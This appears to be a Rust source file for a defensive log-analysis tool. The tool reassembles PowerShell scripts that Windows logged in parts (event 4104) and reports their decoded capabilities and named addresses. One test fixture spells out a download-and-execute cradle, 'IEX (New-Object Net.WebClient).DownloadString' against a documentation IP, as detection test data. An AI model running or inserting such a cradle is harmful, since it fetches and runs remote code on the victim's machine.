//! `script_block`: a PowerShell script as it ran, put together from the parts in which it was logged.

use std::collections::BTreeMap;

use async_trait::async_trait;
use jiff::SignedDuration;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::alerts::unavailable;
use super::answer::{Answer, Header, Row, ToolError};
use super::decode::{Reading, reading};
use super::tool::{Permission, Scope, Tool};
use super::view::{EventView, IN_A_ROW};
use crate::domain::event::Event;
use crate::domain::taint;
use crate::ports::events::{Comparison, Condition, EventQuery, Kind};

/// See the module.
pub struct ScriptBlock;

/// How far from the event its other parts are looked for: they are logged within seconds, and a clock may be set.
const AROUND: SignedDuration = SignedDuration::from_hours(1);

/// Parts that are put together. A script of more than this many is told to be cut.
const MOST_PARTS: usize = 200;

/// Characters of the script that a program is given.
const LONGEST_SCRIPT: usize = 100_000;

/// Characters of its beginning and of its end that are shown.
const SHOWN_BEGIN: usize = 1_600;
const SHOWN_END: usize = 700;

/// Rows of parts that can be cited.
const MOST_SHOWN: usize = 3;

/// Which script.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Arguments {
    /// A 4104 event of it, by its id.
    pub event: String,
}

/// What the tool gives a program.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// Its id in the log.
    pub id: String,
    /// Parts that are in the log.
    pub parts_found: u32,
    /// Parts that it had.
    pub parts_total: u32,
    /// The file it was read from, if it was one.
    pub path: Option<String>,
    /// Its text, parts that are missing left out; the first 100,000 characters.
    pub text: String,
    /// The text is longer than that.
    pub cut: bool,
    /// What the text says, decoded.
    pub reading: Reading,
}

impl Script {
    /// Every part of it is in the log, and it is given whole.
    #[must_use]
    pub const fn is_whole(&self) -> bool {
        self.parts_found == self.parts_total && !self.cut
    }
}

#[async_trait]
impl Tool for ScriptBlock {
    const NAME: &'static str = "script_block";
    const DESCRIPTION: &'static str = "The PowerShell script of a 4104 event, put together from all its parts (found/total), with what it can do, decoded layers, and the addresses and paths it names. A script of which parts are missing is not known.";
    const PERMISSION: Permission = Permission::Read;
    type Arguments = Arguments;

    async fn call(&self, arguments: Arguments, scope: &Scope) -> Result<Answer, ToolError> {
        let event = scope.event(&arguments.event).await?;
        let is_script = event.code == 4104;
        let id = event.data("ScriptBlockId").filter(|_| is_script).ok_or_else(|| ToolError::NotFound {
            what: format!("{} is no part of a logged script (PowerShell 4104 with a ScriptBlockId)", event.kind()),
        })?;
        let (parts, total) = parts(&event, id, scope).await?;
        let found = u32::try_from(parts.len()).unwrap_or(u32::MAX);
        let whole: String = parts.values().filter_map(|part| part.data("ScriptBlockText")).collect();
        let cut = whole.chars().nth(LONGEST_SCRIPT).is_some();
        let script = Script {
            id: id.to_owned(),
            parts_found: found,
            parts_total: total,
            path: event.data("Path").map(str::to_owned),
            reading: reading(&whole),
            text: whole.chars().take(LONGEST_SCRIPT).collect(),
            cut,
        };
        let mut rows = vec![Row::said(said(&script))];
        rows.extend(script.reading.rows());
        rows.push(Row::said(format!("text: {}", excerpt(&whole))));
        for part in parts.values().take(MOST_SHOWN) {
            let view = EventView::row(part, IN_A_ROW);
            let number = part.data("MessageNumber").unwrap_or("1");
            let text = format!("part {} of {total}, {} {}", taint::shown(number), view.time.strftime("%T"), view.host);
            rows.push(Row { text, ..Row::of(view) });
        }
        let total = rows.len() as u64 + u64::from(found).saturating_sub(MOST_SHOWN as u64);
        let header = Header { total, next: "get_event shows a part whole".into(), ..Header::default() };
        let data = serde_json::to_value(script).unwrap_or_default();
        Ok(Answer { header, rows, cut: 0, data, filing: None })
    }
}

/// The parts of a script by their numbers, and how many it had.
async fn parts(event: &Event, id: &str, scope: &Scope) -> Result<(BTreeMap<u32, Event>, u32), ToolError> {
    let number = |event: &Event, name: &str| event.data(name).and_then(|text| text.parse::<u32>().ok());
    let query = EventQuery {
        host: Some(event.host.clone()),
        kinds: vec![Kind { channel: Some(event.channel.clone()), code: 4104 }],
        conditions: vec![Condition {
            field: "winlog.event_data.ScriptBlockId".into(),
            comparison: Comparison::Equals,
            value: id.to_owned(),
        }],
        limit: MOST_PARTS,
        ..EventQuery::within(
            event.time.checked_sub(AROUND).unwrap_or(event.time),
            event.time.checked_add(AROUND).unwrap_or(event.time),
            scope.watermark,
        )
    };
    let mut parts = BTreeMap::new();
    for part in scope.events.search(&query).await.map_err(unavailable)?.rows {
        // Of two records of one part the first stands.
        parts.entry(number(&part, "MessageNumber").unwrap_or(1)).or_insert(part);
    }
    parts.entry(number(event, "MessageNumber").unwrap_or(1)).or_insert_with(|| event.clone());
    let last = parts.keys().next_back().copied().unwrap_or(1);
    let total = parts.values().filter_map(|part| number(part, "MessageTotal")).max().unwrap_or(1);
    Ok((parts, total.max(last)))
}

fn said(script: &Script) -> String {
    let Script { id, parts_found, parts_total, path, .. } = script;
    let missing =
        if parts_found < parts_total { ", the others are not in the log: what they do is not known" } else { "" };
    let path = path.as_ref().map_or_else(|| "no file".to_owned(), |path| taint::shown(path));
    format!("script {} from {path}: {parts_found} of {parts_total} parts{missing}", taint::shown(id))
}

/// The beginning of a text and its end: an act at the end must not hide behind a long beginning.
fn excerpt(text: &str) -> String {
    let shown = taint::shown(text);
    let length = shown.chars().count();
    if length <= SHOWN_BEGIN + SHOWN_END {
        return shown;
    }
    let begin: String = shown.chars().take(SHOWN_BEGIN).collect();
    let end: String = shown.chars().skip(length - SHOWN_END).collect();
    format!("{begin} […{} characters…] {end}", length - SHOWN_BEGIN - SHOWN_END)
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use serde_json::json;

    use super::*;
    use crate::domain::event::SYSMON;
    use crate::fixtures::{event, store};
    use crate::knowledge::command::Capability;
    use crate::ports::events::Watermark;

    const POWERSHELL: &str = "Microsoft-Windows-PowerShell/Operational";

    fn part(number: u32, total: u32, text: &str) -> Event {
        let data = json!({
            "ScriptBlockId": "aa-1", "MessageNumber": number.to_string(), "MessageTotal": total.to_string(),
            "ScriptBlockText": text, "Path": r"C:\Scripts\a.ps1",
        });
        event(&format!("p{number}"), i64::from(number), "WKS-1", (POWERSHELL, 4104), data)
    }

    async fn ask(events: Vec<Event>, id: &str) -> Result<(Answer, Script), ToolError> {
        let (_folder, store) = store(events).await;
        let scope = Scope {
            case: crate::fixtures::CASE,
            alerts: Arc::default(),
            events: store,
            watermark: Watermark(u64::MAX),
        };
        let answer = ScriptBlock.call(Arguments { event: id.into() }, &scope).await?;
        let script = serde_json::from_value(answer.data.clone()).expect("it is typed");
        Ok((answer, script))
    }

    #[tokio::test]
    async fn parts_are_joined_in_their_order_wherever_the_words_are_cut() {
        let events = vec![
            part(3, 3, "('http://203.0.113.9/a')"),
            part(1, 3, "IEX (New-Object Net.Web"),
            part(2, 3, "Client).DownloadString"),
        ];
        let (answer, script) = ask(events, "p2").await.expect("it answers");
        assert_eq!(script.text, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
        assert!(script.is_whole());
        assert!(script.reading.capabilities.contains(&Capability::Download));
        assert_eq!(script.reading.urls, ["http://203.0.113.9/a"]);
        assert!(answer.rows[0].text.ends_with(r"from C:\Scripts\a.ps1: 3 of 3 parts"), "{}", answer.rows[0].text);
        assert_eq!(answer.rows.iter().filter(|row| row.exhibit.is_some()).count(), 3);
    }

    #[tokio::test]
    async fn a_script_of_which_parts_are_missing_is_not_known() {
        let (answer, script) = ask(vec![part(2, 5, "b"), part(4, 5, "d")], "p2").await.expect("it answers");
        assert_eq!((script.parts_found, script.parts_total, script.is_whole()), (2, 5, false));
        assert!(answer.rows[0].text.contains("2 of 5 parts, the others are not in the log"));
    }

    #[tokio::test]
    async fn the_end_of_a_long_script_is_shown() {
        let text = format!("{}Invoke-Last", "a ".repeat(60_000));
        let (answer, script) = ask(vec![part(1, 1, &text)], "p1").await.expect("it answers");
        assert!(script.cut && !script.is_whole());
        assert!(answer.rows.iter().any(|row| row.text.ends_with("Invoke-Last")));
    }

    #[tokio::test]
    async fn what_is_no_script_is_refused() {
        let other = event("e", 0, "WKS-1", (SYSMON, 1), json!({"ScriptBlockId": "aa-1"}));
        assert!(matches!(ask(vec![other], "e").await, Err(ToolError::NotFound { .. })));
    }
}
